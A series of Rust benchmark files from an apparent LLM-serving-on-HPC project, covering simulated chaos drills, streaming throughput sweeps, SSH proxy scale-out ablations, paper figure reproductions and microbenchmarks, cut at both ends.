    // Healthy reference for the gray-node drill: same workload, no faults.
    let gray_baseline_p50 = {
        let sc = Scenario {
            seed,
            plan: FaultPlan::new(),
            shed_watermark: 0,
            spec: base_spec.clone(),
            arrivals: spread(500_000, 16),
        };
        metrics(&run(&sc).records).p50_ms
    };

    let drills: Vec<(&str, Scenario, Box<dyn Fn(&RunOut, &mut Vec<String>)>)> = vec![
        (
            "preemption_storm",
            Scenario {
                seed,
                // 8 batch jobs x 4 GPUs at priority 10: above the
                // scavenger tier (-10), below guaranteed replicas (100).
                plan: FaultPlan::new().at(
                    55_000_000,
                    FaultEvent::PreemptionStorm {
                        jobs: 8,
                        gpus_per_job: 4,
                        walltime: Duration::from_secs(60),
                    },
                ),
                shed_watermark: 0,
                spec: ServiceSpec {
                    max_instances: 1,
                    max_scavengers: 2,
                    target_concurrency: 1.0,
                    ..base_spec.clone()
                },
                arrivals: spread(500_000, 16),
            },
            Box::new(move |out, fails| {
                if completed(&out.records).len() as u64 != n {
                    fails.push(format!(
                        "preemption_storm: guaranteed tier did not ride out the storm \
                         ({}/{n} completed)",
                        completed(&out.records).len()
                    ));
                }
                if !out.trace.contains("preemption_storm jobs=8") {
                    fails.push("preemption_storm: fault missing from trace".into());
                }
            }),
        ),
        (
            "lane_flap",
            Scenario {
                seed,
                // Drop the link for 2 s while long streams are in flight.
                plan: FaultPlan::new()
                    .at(45_000_000, FaultEvent::LinkDown)
                    .at(47_000_000, FaultEvent::LinkUp),
                shed_watermark: 0,
                spec: base_spec.clone(),
                arrivals: spread(200_000, 64),
            },
            Box::new(move |out, fails| {
                if completed(&out.records).len() as u64 != n {
                    fails.push(format!(
                        "lane_flap: a frozen stream was dropped ({}/{n} completed)",
                        completed(&out.records).len()
                    ));
                }
                let max_lat_us = completed(&out.records)
                    .iter()
                    .map(|r| r.finish_us - r.submit_us)
                    .max()
                    .unwrap_or(0);
                if max_lat_us < 2_000_000 {
                    fails.push(format!(
                        "lane_flap: no stream spanned the 2 s outage (max latency {max_lat_us} us)"
                    ));
                }
            }),
        ),
        (
            "gray_node",
            Scenario {
                seed,
                // Gray every node: wherever the replica landed, it now
                // charges 4x per decode step — and still passes probes.
                plan: (1..=10).fold(FaultPlan::new(), |p, i| {
                    p.at(
                        39_000_000,
                        FaultEvent::GraySlow {
                            node: format!("ggpu{i:02}"),
                            factor_milli: 4000,
                        },
                    )
                }),
                shed_watermark: 0,
                spec: base_spec.clone(),
                arrivals: spread(500_000, 16),
            },
            Box::new(move |out, fails| {
                if completed(&out.records).len() as u64 != n {
                    fails.push(format!(
                        "gray_node: gray failure killed requests ({}/{n} completed)",
                        completed(&out.records).len()
                    ));
                }
                let p50 = metrics(&out.records).p50_ms;
                if p50 <= gray_baseline_p50 * 1.5 {
                    fails.push(format!(
                        "gray_node: 4x gray slowdown invisible in latency \
                         (p50 {p50:.2} ms vs healthy {gray_baseline_p50:.2} ms)"
                    ));
                }
            }),
        ),
        (
            "upstream_outage",
            Scenario {
                seed,
                // Placement outage for 5 s, flash crowd arriving through
                // it: the shed watermark refuses the overflow, everything
                // admitted drains once the upstream returns.
                plan: FaultPlan::new()
                    .at(45_000_000, FaultEvent::UpstreamDown)
                    .at(50_000_000, FaultEvent::UpstreamUp),
                shed_watermark: 8,
                spec: base_spec.clone(),
                arrivals: (0..n).map(|i| (44_000_000 + i * 100_000, (i % 9) as u32, 16)).collect(),
            },
            Box::new(move |out, fails| {
                let shed = out
                    .records
                    .iter()
                    .filter(|r| r.finish_reason == "shed_overload")
                    .count();
                let done = completed(&out.records).len();
                if shed == 0 {
                    fails.push("upstream_outage: flash crowd never hit the shed watermark".into());
                }
                if done == 0 {
                    fails.push("upstream_outage: nothing completed after the outage".into());
                }
                if (shed + done) as u64 != n {
                    fails.push(format!(
                        "upstream_outage: admitted requests leaked \
                         ({done} completed + {shed} shed != {n})"
                    ));
                }
            }),
        ),
    ];

    for (name, sc, check) in &drills {
        let (m, passed, fails) = drill(name, sc, check);
        all_pass &= passed;
        println!(
            "{name:<18} {:>8.2} {:>10.2} {:>10.2} {:>10.2} {:>8}",
            m.rps,
            m.p50_ms,
            m.p99_ms,
            m.ttft_ms,
            if passed { "ok" } else { "FAIL" }
        );
        for f in &fails {
            println!("  !! {f}");
        }
        let round = |v: f64| (v * 1000.0).round() / 1000.0;
        report = report.set(
            *name,
            Json::obj()
                .set("rps", round(m.rps))
                .set("p50_ms", round(m.p50_ms))
                .set("p99_ms", round(m.p99_ms))
                .set("ttft_ms", round(m.ttft_ms))
                .set("passed", if passed { 1.0 } else { 0.0 }),
        );
    }

    std::fs::write("BENCH_chaos.json", report.dump())?;
    println!("\nwrote BENCH_chaos.json (4 drills)");
    if !all_pass {
        println!("chaos drills FAILED");
        std::process::exit(1);
    }
    println!("all drills passed");
    Ok(())
}
