//! Stream-saturation sweep: single-channel vs dual-channel vs
//! dual-channel + zero-copy SSE (DESIGN.md §Dual-channel streaming).
//!
//! The stack runs with an emulated SSH wire delay
//! (`StackConfig::ssh_server_frame_delay`): every server→client frame
//! holds the per-connection writer lock for a fixed slot, exactly like a
//! saturated uplink. Generation itself is unpaced (`time_scale 0.0`), so
//! the wire — not the engine — is the bottleneck. Closed-loop workers
//! then hammer the gateway with streaming chats and we measure delivered
//! tokens/sec/core per mode:
//!
//!   single_channel   tokens and control share the pooled SSH lanes
//!   dual_channel     tokens ride dedicated bulk lanes, control stays pooled
//!   dual_zero_copy   dual-channel + zero-copy SSE render in the engine
//!
//! Acceptance shape (ISSUE 7): dual_zero_copy >= 2x single_channel
//! tokens/sec/core at saturation, and single_channel itself must not
//! regress. Results land in BENCH_stream.json (schema-checked by
//! scripts/check_bench.py in the CI stream-modes step).
//!
//!   cargo bench --bench stream_saturation [-- --smoke]

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::stack::{ChatAiStack, StackConfig};
use chat_hpc::util::bench::{stats, BenchArgs};
use chat_hpc::util::http;
use chat_hpc::util::json::Json;

const MODEL: &str = "intel-neural-7b";

struct ModeResult {
    rps: f64,
    p50_ms: f64,
    p99_ms: f64,
    ttft_ms: f64,
    tok_per_sec: f64,
}

/// Occurrences of `needle` in `hay` (token chunks carry one `"content"`
/// key each; the finish chunk and `[DONE]` carry none).
fn count(hay: &[u8], needle: &[u8]) -> u64 {
    if hay.len() < needle.len() {
        return 0;
    }
    hay.windows(needle.len()).filter(|w| *w == needle).count() as u64
}

fn run_mode(
    dual: bool,
    zero_copy: bool,
    wire_slot: Duration,
    workers: usize,
    secs: f64,
) -> anyhow::Result<ModeResult> {
    let stack = ChatAiStack::start(StackConfig {
        services: vec![ServiceSpec::sim(MODEL, 0.0)],
        with_external: false,
        dual_channel: dual,
        zero_copy_sse: zero_copy,
        ssh_server_frame_delay: wire_slot,
        ..Default::default()
    })?;
    stack.wait_ready(MODEL, Duration::from_secs(30))?;

    let url = format!("{}/v1/m/{MODEL}/", stack.gateway_url());
    let auth = format!("Bearer {}", stack.api_key);
    let body = Json::obj()
        .set("model", MODEL)
        .set("messages", vec![Json::obj().set("role", "user").set("content", "count")])
        .set("stream", true)
        .dump();
    let one_stream = || -> anyhow::Result<(f64, Option<f64>, u64)> {
        let t = Instant::now();
        let mut first: Option<f64> = None;
        let mut toks = 0u64;
        let status = http::request_stream(
            "POST",
            &url,
            &[("authorization", &auth), ("content-type", "application/json")],
            body.as_bytes(),
            |chunk| {
                if first.is_none() {
                    first = Some(t.elapsed().as_secs_f64());
                }
                toks += count(chunk, b"\"content\"");
            },
        )?;
        anyhow::ensure!(status == 200, "stream returned {status}");
        Ok((t.elapsed().as_secs_f64(), first, toks))
    };

    // Warm the route, the SSH lanes and the instance before measuring.
    for _ in 0..3 {
        one_stream()?;
    }

    let stop = AtomicBool::new(false);
    let lats = Mutex::new(Vec::new());
    let ttfts = Mutex::new(Vec::new());
    let tokens = AtomicU64::new(0);
    let streams = AtomicU64::new(0);
    let t0 = Instant::now();
    std::thread::scope(|s| {
        for _ in 0..workers {
            s.spawn(|| {
                while !stop.load(Ordering::Relaxed) {
                    match one_stream() {
                        Ok((lat, first, toks)) => {
                            lats.lock().unwrap().push(lat);
                            if let Some(f) = first {
                                ttfts.lock().unwrap().push(f);
                            }
                            tokens.fetch_add(toks, Ordering::Relaxed);
                            streams.fetch_add(1, Ordering::Relaxed);
                        }
                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
                    }
                }
            });
        }
        std::thread::sleep(Duration::from_secs_f64(secs));
        stop.store(true, Ordering::Relaxed);
    });
    let elapsed = t0.elapsed().as_secs_f64();

    let lats = lats.into_inner().unwrap();
    let ttfts = ttfts.into_inner().unwrap();
    anyhow::ensure!(!lats.is_empty(), "no stream completed during the measurement window");
    let ls = stats(&lats);
    let ts = stats(&ttfts);
    Ok(ModeResult {
        rps: streams.load(Ordering::Relaxed) as f64 / elapsed,
        p50_ms: ls.p50 * 1e3,
        p99_ms: ls.p99 * 1e3,
        ttft_ms: ts.p50 * 1e3,
        tok_per_sec: tokens.load(Ordering::Relaxed) as f64 / elapsed,
    })
}

fn main() -> anyhow::Result<()> {
    let smoke = BenchArgs::parse().smoke;
    // The wire slot dominates the per-stream budget; smoke keeps the same
    // regime with a shorter window so CI just checks the plumbing.
    let (wire_slot, workers, secs) = if smoke {
        (Duration::from_micros(1500), 8, 1.5)
    } else {
        (Duration::from_millis(2), 12, 6.0)
    };
    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1) as f64;

    println!(
        "stream saturation sweep: wire slot {:?}/frame, {} closed-loop workers, {}s/mode, {} core(s)\n",
        wire_slot, workers, secs, cores
    );
    println!(
        "{:<16} {:>10} {:>10} {:>10} {:>10} {:>12}",
        "mode", "streams/s", "p50 ms", "p99 ms", "ttft ms", "tok/s/core"
    );

    let mut report = Json::obj();
    let mut per_core = Vec::new();
    for (key, dual, zc) in [
        ("single_channel", false, false),
        ("dual_channel", true, false),
        ("dual_zero_copy", true, true),
    ] {
        let r = run_mode(dual, zc, wire_slot, workers, secs)?;
        let tpc = r.tok_per_sec / cores;
        println!(
            "{key:<16} {:>10.1} {:>10.2} {:>10.2} {:>10.2} {:>12.1}",
            r.rps, r.p50_ms, r.p99_ms, r.ttft_ms, tpc
        );
        let round = |v: f64| (v * 1000.0).round() / 1000.0;
        report = report.set(
            key,
            Json::obj()
                .set("rps", round(r.rps))
                .set("p50_ms", round(r.p50_ms))
                .set("p99_ms", round(r.p99_ms))
                .set("ttft_ms", round(r.ttft_ms))
                .set("tokens_per_sec_core", round(tpc)),
        );
        per_core.push(tpc);
    }

    let (single, dual, dual_zc) = (per_core[0], per_core[1], per_core[2]);
    let ratio = dual_zc / single;
    println!();
    println!("dual-channel            vs single: {:.2}x tokens/sec/core", dual / single);
    println!(
        "dual-channel+zero-copy  vs single: {ratio:.2}x tokens/sec/core -> {}",
        if ratio >= 2.0 { "REPRODUCED (>= 2x at saturation)" } else { "DIVERGED (< 2x)" }
    );

    std::fs::write("BENCH_stream.json", report.dump())?;
    println!("\nwrote BENCH_stream.json (3 sweeps)");
    Ok(())
}
