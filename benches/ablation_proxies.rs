//! §7.1.5 ablation: the SSH leg is the throughput ceiling (~200 RPS in the
//! paper); deploying multiple HPC Proxy instances, each with its own SSH
//! connection, scales it out (the paper projects ~3000 RPS with load
//! balancing across proxies).
//!
//! Two sweeps over the same cluster:
//!  1. the paper's projection — 1, 2, 4, 8 separate proxy *processes*;
//!  2. the tentpole — ONE proxy process with a pool of 1, 2, 4, 8
//!     multiplexed SSH connections (see benches/README.md for how to read
//!     the comparison: same aggregate wire capacity, no extra deployment).

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_hpc::hpcproxy::{HpcProxy, ProxyConfig};
use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::sshsim::KeyPair;
use chat_hpc::stack::{ChatAiStack, StackConfig};
use chat_hpc::util::bench::{table_header, table_row};
use chat_hpc::util::metrics::Registry;

fn main() -> anyhow::Result<()> {
    let stack = ChatAiStack::start(StackConfig {
        services: vec![ServiceSpec::sim("intel-neural-7b", 0.0)],
        load_time_scale: 0.0,
        keepalive: Duration::from_millis(500),
        with_external: false,
        ..Default::default()
    })?;
    stack.wait_ready("intel-neural-7b", Duration::from_secs(20))?;
    let ssh_addr = stack.ssh_server.addr.to_string();
    let key = KeyPair::generate(0xE5C); // the functional-account key

    table_header(
        "Ablation — SSH-leg scale-out via multiple HPC Proxy instances (§7.1.5)",
        &["proxies", "aggregate probe RPS", "scaling vs 1 proxy"],
    );

    let quiet_cfg = |pool_size: usize| ProxyConfig {
        keepalive: Duration::from_secs(60), // quiet during the run
        reconnect_backoff: Duration::from_millis(50),
        link_frame_delay: Duration::from_micros(1700),
        pool_size,
        max_channels_per_conn: 8,
        dual_channel: false,
        bulk_lanes: 2,
    };

    let mut base = 0.0f64;
    for n_proxies in [1usize, 2, 4, 8] {
        let proxies: Vec<Arc<HpcProxy>> = (0..n_proxies)
            .map(|_| {
                HpcProxy::connect(&ssh_addr, key.clone(), quiet_cfg(1), Registry::new()).unwrap()
            })
            .collect();

        let ops = AtomicU64::new(0);
        let secs = 3.0;
        let start = Instant::now();
        std::thread::scope(|s| {
            // 8 workers per proxy, pinned, like load-balanced traffic.
            for p in &proxies {
                for _ in 0..8 {
                    s.spawn(|| {
                        while start.elapsed().as_secs_f64() < secs {
                            if p.probe("intel-neural-7b").is_ok() {
                                ops.fetch_add(1, Ordering::Relaxed);
                            }
                        }
                    });
                }
            }
        });
        let rps = ops.load(Ordering::Relaxed) as f64 / start.elapsed().as_secs_f64();
        if n_proxies == 1 {
            base = rps;
        }
        table_row(&[
            n_proxies.to_string(),
            format!("{rps:.0}"),
            format!("{:.2}x", rps / base.max(1.0)),
        ]);
        for p in proxies {
            p.stop();
        }
    }

    println!("\nshape check: throughput grows with proxy count (paper §7.1.5): see scaling column");

    // --- sweep 2: one proxy, pooled connections ---------------------------
    println!();
    table_header(
        "Ablation — single HPC Proxy with a pool of N multiplexed SSH connections",
        &["pool size N", "aggregate probe RPS", "scaling vs N=1"],
    );
    let mut pool_base = 0.0f64;
    for n in [1usize, 2, 4, 8] {
        let proxy =
            HpcProxy::connect(&ssh_addr, key.clone(), quiet_cfg(n), Registry::new()).unwrap();
        let ops = AtomicU64::new(0);
        let secs = 3.0;
        let start = Instant::now();
        std::thread::scope(|s| {
            // Same aggregate worker count as the multi-proxy sweep.
            for _ in 0..(8 * n) {
                s.spawn(|| {
                    while start.elapsed().as_secs_f64() < secs {
                        if proxy.probe("intel-neural-7b").is_ok() {
                            ops.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                });
            }
        });
        let rps = ops.load(Ordering::Relaxed) as f64 / start.elapsed().as_secs_f64();
        if n == 1 {
            pool_base = rps;
        }
        table_row(&[
            n.to_string(),
            format!("{rps:.0}"),
            format!("{:.2}x", rps / pool_base.max(1.0)),
        ]);
        proxy.stop();
    }
    println!(
        "\nshape check: one pooled proxy tracks N separate proxies without extra deployment"
    );
    Ok(())
}
