//! Figure 3 reproduction: total number of distinct users, Feb 22 → Jul 30
//! 2024 (paper: 0 → 9 000+ with a bump after the April 8 advertisement).

use chat_hpc::analytics::adoption::{date_label, DAY_AD_CAMPAIGN, EXTERNAL_MODELS};
use chat_hpc::analytics::{aggregate_daily, AdoptionConfig, AdoptionSim, RequestLog};
use chat_hpc::util::bench::{table_header, table_row};

fn main() {
    let cfg = AdoptionConfig::default();
    let log = RequestLog::new();
    let summary = AdoptionSim::new(cfg.clone()).run(&log);
    let days = aggregate_daily(&log, cfg.days, EXTERNAL_MODELS, date_label);

    table_header("Figure 3 — total distinct users (weekly)", &["date", "total users"]);
    for d in days.iter().step_by(7) {
        table_row(&[d.date.clone(), d.total_users.to_string()]);
    }

    println!();
    let at = |day: usize| days[day.min(days.len() - 1)].total_users;
    println!("3-month mark (≈May 22): {} users (paper: >6000)", at(90));
    println!("end of June:            {} users (paper: ~9000)", at(125));
    println!("final ({}): {} users; {} total requests", days.last().unwrap().date, summary.total_users, summary.total_requests);

    // Ad-campaign bump visible in the weekly derivative.
    let pre: u64 = (DAY_AD_CAMPAIGN - 7..DAY_AD_CAMPAIGN)
        .map(|d| days[d as usize].new_users)
        .sum();
    let post: u64 = (DAY_AD_CAMPAIGN..DAY_AD_CAMPAIGN + 7)
        .map(|d| days[d as usize].new_users)
        .sum();
    println!(
        "registrations week before ad: {pre}; week after: {post} -> bump {}",
        if post > pre { "REPRODUCED" } else { "DIVERGED" }
    );
    let monotone = days.windows(2).all(|w| w[1].total_users >= w[0].total_users);
    println!("cumulative curve monotone: {}", if monotone { "REPRODUCED" } else { "DIVERGED" });
}
