//! Figure 3 reproduction: total number of distinct users, Feb 22 → Jul 30
//! 2024 (paper: 0 → 9 000+ with a bump after the April 8 advertisement).
//!
//! `--serving [--seed N]` runs the fig3-class sweep on the virtual-time
//! serving path instead: a 100 000-user diurnal population pushes ~100k
//! chat requests through the full SimStack (gateway admission → scheduler
//! → routing → engine) over one simulated hour, in seconds of wall-clock.
//! The discrete-event clock makes the run a pure function of the seed, so
//! `BENCH_fig3_serving.json` is byte-identical across replays — CI runs it
//! twice and diffs (ci.sh sim-determinism).

use std::time::Duration;

use chat_hpc::analytics::adoption::{date_label, DAY_AD_CAMPAIGN, EXTERNAL_MODELS};
use chat_hpc::analytics::{aggregate_daily, AdoptionConfig, AdoptionSim, RequestLog};
use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::stack::{SimRequest, SimStack, SimStackConfig};
use chat_hpc::util::bench::{table_header, table_row, BenchArgs, BenchReport};
use chat_hpc::util::rng::Rng;
use chat_hpc::workload::DiurnalArrivals;

fn main() {
    let args = BenchArgs::parse();
    if args.flag("--serving") {
        serving_sweep(args.seed);
        return;
    }
    adoption_curve();
}

/// The original figure: the adoption (distinct-user growth) curve.
fn adoption_curve() {
    let cfg = AdoptionConfig::default();
    let log = RequestLog::new();
    let summary = AdoptionSim::new(cfg.clone()).run(&log);
    let days = aggregate_daily(&log, cfg.days, EXTERNAL_MODELS, date_label);

    table_header("Figure 3 — total distinct users (weekly)", &["date", "total users"]);
    for d in days.iter().step_by(7) {
        table_row(&[d.date.clone(), d.total_users.to_string()]);
    }

    println!();
    let at = |day: usize| days[day.min(days.len() - 1)].total_users;
    println!("3-month mark (≈May 22): {} users (paper: >6000)", at(90));
    println!("end of June:            {} users (paper: ~9000)", at(125));
    println!("final ({}): {} users; {} total requests", days.last().unwrap().date, summary.total_users, summary.total_requests);

    // Ad-campaign bump visible in the weekly derivative.
    let pre: u64 = (DAY_AD_CAMPAIGN - 7..DAY_AD_CAMPAIGN)
        .map(|d| days[d as usize].new_users)
        .sum();
    let post: u64 = (DAY_AD_CAMPAIGN..DAY_AD_CAMPAIGN + 7)
        .map(|d| days[d as usize].new_users)
        .sum();
    println!(
        "registrations week before ad: {pre}; week after: {post} -> bump {}",
        if post > pre { "REPRODUCED" } else { "DIVERGED" }
    );
    let monotone = days.windows(2).all(|w| w[1].total_users >= w[0].total_users);
    println!("cumulative curve monotone: {}", if monotone { "REPRODUCED" } else { "DIVERGED" });
}

fn pctl_us(sorted: &[u64], p: f64) -> f64 {
    if sorted.is_empty() {
        return 0.0;
    }
    let idx = ((sorted.len() - 1) as f64 * p).round() as usize;
    sorted[idx] as f64
}

/// Virtual-time serving sweep: one diurnal hour of a 100k-user population
/// against the full serving path, bucketed per quarter hour.
fn serving_sweep(seed: u64) {
    let wall_start = std::time::Instant::now();
    let stack = SimStack::start(SimStackConfig {
        seed,
        services: vec![ServiceSpec::sim("intel-neural-7b", 1.0)],
        ..Default::default()
    });

    let wl = DiurnalArrivals {
        users: 100_000,
        mean_rps: 30.0,
        amplitude: 0.8,
        period: Duration::from_secs(3600),
    };
    let horizon = Duration::from_secs(3600);
    let arrivals = wl.generate(horizon, &mut Rng::new(seed ^ 0xF16_3));
    // Shift past the 30s model load + 5s keepalive so the sweep measures
    // steady-state serving, not the first cold start.
    const WARM_US: u64 = 40_000_000;
    for &(t_us, user) in &arrivals {
        stack.submit_chat_at(
            WARM_US + t_us,
            SimRequest {
                user: format!("user-{user}"),
                prompt: format!("chat turn from simulated user {user}"),
                max_tokens: 24,
                ..Default::default()
            },
        );
    }
    assert!(
        stack.run_until_settled(Duration::from_secs(3 * 3600)),
        "sweep never settled: {} open",
        stack.open_requests()
    );

    let recs = stack.records();
    let users: std::collections::BTreeSet<&str> =
        recs.iter().map(|r| r.user.as_str()).collect();
    let served = recs
        .iter()
        .filter(|r| matches!(r.finish_reason.as_str(), "stop" | "length"))
        .count();

    let mut report = BenchReport::new();
    table_header(
        "Figure 3 (serving) — one diurnal hour, 100k-user population",
        &["quarter", "served rps", "p50 ms", "p99 ms", "p50 ttft ms"],
    );
    let bucket_us = horizon.as_micros() as u64 / 4;
    let mut sweep = |name: &str, lo_us: u64, hi_us: u64| {
        let mut lat: Vec<u64> = Vec::new();
        let mut ttft: Vec<u64> = Vec::new();
        for r in recs.iter().filter(|r| {
            (lo_us..hi_us).contains(&r.submit_us)
                && matches!(r.finish_reason.as_str(), "stop" | "length")
        }) {
            lat.push(r.finish_us - r.submit_us);
            if let Some(t) = r.ttft_us {
                ttft.push(t);
            }
        }
        lat.sort_unstable();
        ttft.sort_unstable();
        let rps = lat.len() as f64 / ((hi_us - lo_us) as f64 / 1e6);
        let p50 = pctl_us(&lat, 0.50) / 1e3;
        let p99 = pctl_us(&lat, 0.99) / 1e3;
        let t50 = pctl_us(&ttft, 0.50) / 1e3;
        table_row(&[
            name.to_string(),
            format!("{rps:.2}"),
            format!("{p50:.2}"),
            format!("{p99:.2}"),
            format!("{t50:.2}"),
        ]);
        report.entry(name, rps, p50, p99, t50);
    };
    for q in 0..4u64 {
        let lo = WARM_US + q * bucket_us;
        sweep(&format!("hour_q{}", q + 1), lo, lo + bucket_us);
    }
    sweep("overall", WARM_US, WARM_US + horizon.as_micros() as u64);

    println!();
    println!(
        "seed {seed}: {} requests from {} distinct users (population 100000), {} served",
        recs.len(),
        users.len(),
        served
    );
    println!(
        "simulated {}s of traffic via {} events in {:.1}s wall-clock",
        stack.now_us() / 1_000_000,
        stack.executed_events(),
        wall_start.elapsed().as_secs_f64()
    );
    report.write("BENCH_fig3_serving.json").expect("write BENCH_fig3_serving.json");
}
