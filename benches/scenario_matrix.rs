//! Scenario matrix: the trace-replay acceptance suite (DESIGN.md
//! §Workloads), run entirely under virtual time so every scenario is
//! deterministic — the same `--seed` produces a byte-identical
//! BENCH_scenarios.json on every machine.
//!
//! Five scenarios over `workload::scenarios::ScenarioMatrix`:
//!
//!   diurnal_scavenger  a diurnal chat day whose peak outgrows the one
//!                      guaranteed replica; scavengers absorb the crest
//!   flash_crowd        10× arrivals for one minute against a
//!                      scale-from-zero keep-alive group
//!   tiered_deadlines   interactive chat under a 20 s deadline budget
//!                      sharing the fleet with no-deadline batch items
//!   prefill_flood      long-document prefill pressure vs chat latency
//!   failure_drill      node loss in the lull, preemption storm
//!                      mid-second-wave; zero dropped requests
//!
//! Each scenario runs twice and byte-compares its traces (the in-process
//! half of the determinism contract; CI also byte-compares two full
//! BENCH_scenarios.json + trace artifacts across processes via
//! `SCENARIO_TRACE_OUT`), then applies its shape check. Any failed check
//! fails the bench with a nonzero exit after writing the report.
//!
//!   cargo bench --bench scenario_matrix [-- --smoke] [-- --seed N]

use chat_hpc::util::bench::BenchArgs;
use chat_hpc::util::json::Json;
use chat_hpc::workload::scenarios::{ScenarioMatrix, SCENARIO_NAMES};

fn main() -> anyhow::Result<()> {
    let args = BenchArgs::parse();
    let matrix = ScenarioMatrix::new(args.seed, args.smoke);

    println!(
        "scenario matrix: seed {}, {} scenarios{}\n",
        args.seed,
        SCENARIO_NAMES.len(),
        if args.smoke { " (smoke)" } else { "" }
    );
    println!(
        "{:<20} {:>6} {:>8} {:>10} {:>10} {:>10} {:>8}",
        "scenario", "reqs", "rps", "p50 ms", "p99 ms", "ttft ms", "pass"
    );

    let mut report = Json::obj();
    let mut traces = String::new();
    let mut all_pass = true;

    for name in SCENARIO_NAMES {
        let out = matrix.run(name);
        all_pass &= out.passed;
        println!(
            "{:<20} {:>6} {:>8.2} {:>10.2} {:>10.2} {:>10.2} {:>8}",
            out.name,
            out.requests,
            out.rps,
            out.p50_ms,
            out.p99_ms,
            out.ttft_ms,
            if out.passed { "ok" } else { "FAIL" }
        );
        for f in &out.failures {
            println!("  !! {f}");
        }
        let round = |v: f64| (v * 1000.0).round() / 1000.0;
        report = report.set(
            out.name,
            Json::obj()
                .set("rps", round(out.rps))
                .set("p50_ms", round(out.p50_ms))
                .set("p99_ms", round(out.p99_ms))
                .set("ttft_ms", round(out.ttft_ms))
                .set("passed", if out.passed { 1.0 } else { 0.0 }),
        );
        traces.push_str(&format!("=== {} ===\n{}", out.name, out.trace));
    }

    std::fs::write("BENCH_scenarios.json", report.dump())?;
    println!("\nwrote BENCH_scenarios.json ({} scenarios)", SCENARIO_NAMES.len());
    // Cross-process determinism artifact for CI (mirrors SIM_TRACE_OUT).
    if let Some(path) = std::env::var_os("SCENARIO_TRACE_OUT") {
        std::fs::write(path, &traces)?;
    }
    if !all_pass {
        println!("scenario matrix FAILED");
        std::process::exit(1);
    }
    println!("all scenarios passed");
    Ok(())
}
