//! Figure 5 reproduction: total inference requests per day, internal vs
//! external models, with the model-launch timeline (paper: growth to
//! >350 000 total messages; API launch drastically increases open-model
//! volume; internal models dominate despite free GPT-4).

use chat_hpc::analytics::adoption::{
    date_label, DAY_API_LAUNCH, DAY_GPT4_LAUNCH, DAY_MIXTRAL_LAUNCH, DAY_QWEN_LAUNCH,
    EXTERNAL_MODELS,
};
use chat_hpc::analytics::{aggregate_daily, AdoptionConfig, AdoptionSim, RequestLog};
use chat_hpc::util::bench::{table_header, table_row};

fn main() {
    let cfg = AdoptionConfig::default();
    let log = RequestLog::new();
    let summary = AdoptionSim::new(cfg.clone()).run(&log);
    let days = aggregate_daily(&log, cfg.days, EXTERNAL_MODELS, date_label);

    table_header(
        "Figure 5 — inference requests per day (weekly)",
        &["date", "internal", "external", "total", "event"],
    );
    for d in days.iter().step_by(7) {
        let event = match d.day {
            d if (d..d + 7).contains(&DAY_GPT4_LAUNCH) => "GPT-4 route added",
            d if (d..d + 7).contains(&DAY_QWEN_LAUNCH) => "Qwen launched",
            d if (d..d + 7).contains(&DAY_MIXTRAL_LAUNCH) => "Mixtral launched",
            d if (d..d + 7).contains(&DAY_API_LAUNCH) => "API access launched",
            _ => "",
        };
        table_row(&[
            d.date.clone(),
            d.internal_requests.to_string(),
            d.external_requests.to_string(),
            d.total_requests().to_string(),
            event.into(),
        ]);
    }

    let internal: u64 = days.iter().map(|d| d.internal_requests).sum();
    let external: u64 = days.iter().map(|d| d.external_requests).sum();
    println!();
    println!("total messages: {} (paper: >350000)", summary.total_requests);
    println!(
        "internal share: {:.0}% -> {}",
        100.0 * internal as f64 / (internal + external).max(1) as f64,
        if internal > external { "REPRODUCED (open models dominate)" } else { "DIVERGED" }
    );
    let pre_api: u64 = (DAY_API_LAUNCH - 21..DAY_API_LAUNCH)
        .map(|d| days[d as usize].internal_requests)
        .sum();
    let post_api: u64 = (DAY_API_LAUNCH + 7..DAY_API_LAUNCH + 28)
        .map(|d| days[d as usize].internal_requests)
        .sum();
    println!(
        "internal requests 3wk before API launch: {pre_api}; 3wk after: {post_api} -> {}",
        if post_api as f64 > 1.3 * pre_api as f64 {
            "REPRODUCED (API drastically increased demand)"
        } else {
            "DIVERGED"
        }
    );
    let before_gpt4: u64 = (0..DAY_GPT4_LAUNCH as usize)
        .map(|d| days[d].external_requests)
        .sum();
    println!(
        "external requests before GPT-4 launch: {before_gpt4} -> {}",
        if before_gpt4 == 0 { "REPRODUCED (timeline respected)" } else { "DIVERGED" }
    );
}
