//! Hot-path microbenchmarks — the §Perf profiling substrate.
//!
//! Times the individual building blocks so the end-to-end numbers in
//! Tables 1–2 can be attributed: JSON codec, HTTP round-trip, SSH exec
//! round-trip (crypto + framing), routing-table pick, KV-cache ops, and
//! the PJRT prefill/decode steps of the real tiny model.

use std::sync::Arc;
use std::time::Duration;

use chat_hpc::llmserver::kvcache::BlockAllocator;
use chat_hpc::runtime::{artifacts_dir, ModelRuntime};
use chat_hpc::scheduler::{Instance, RoutingTable};
use chat_hpc::sshsim::{
    decode_frame, encode_frame, AuthorizedKey, AuthorizedKeys, CommandHandler, KeyPair, SshClient,
    SshServer,
};
use chat_hpc::util::bench::{stats, table_header, table_row, time_n};
use chat_hpc::util::http::{self, Reply, Request, Response, Server, SseParser};
use chat_hpc::util::json::Json;
use chat_hpc::util::rng::Rng;

fn row(name: &str, samples: &[f64]) {
    let s = stats(samples);
    table_row(&[
        name.to_string(),
        format!("{:.1}", s.mean * 1e6),
        format!("{:.1}", s.p50 * 1e6),
        format!("{:.1}", s.p99 * 1e6),
        format!("{:.0}", 1.0 / s.mean),
    ]);
}

fn main() -> anyhow::Result<()> {
    table_header(
        "Microbenchmarks (per-op)",
        &["op", "mean us", "p50 us", "p99 us", "ops/s"],
    );

    // --- JSON ---
    let payload = Json::obj()
        .set("model", "tiny")
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "count from 1 to 10")],
        )
        .set("stream", true)
        .dump();
    row("json parse chat body", &time_n(100, 2000, || {
        let _ = std::hint::black_box(Json::parse(&payload).unwrap());
    }));

    // --- HTTP round-trip ---
    let server = Server::start(Arc::new(|_req: &Request| {
        Reply::full(Response::text(200, "ok"))
    }))?;
    let url = format!("{}/x", server.url());
